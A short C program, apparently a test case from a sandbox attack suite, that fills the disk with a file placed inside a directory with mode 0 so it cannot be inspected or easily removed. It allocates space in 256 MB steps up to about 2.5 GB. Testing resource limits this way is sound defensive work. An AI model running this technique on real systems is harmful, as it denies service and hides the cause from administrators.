/* Fills the disk in a folder that nobody may look into. */
#include "attack.h"

int main(void)
{
    mkdir("hidden", 0700);
    int file = open("hidden/big", O_CREAT | O_WRONLY, 0600);
    /* The folder's mode can be set while it is made, and chmod is refused. */
    mkdir("closed", 0);
    rename("hidden", "closed/hidden");
    for (off_t end = 0; end < 2560L << 20; end += 256 << 20) {
        if (fallocate(file, 0, end, 256 << 20) != 0)
            break;
        usleep(100000);
    }
    return 0;
}
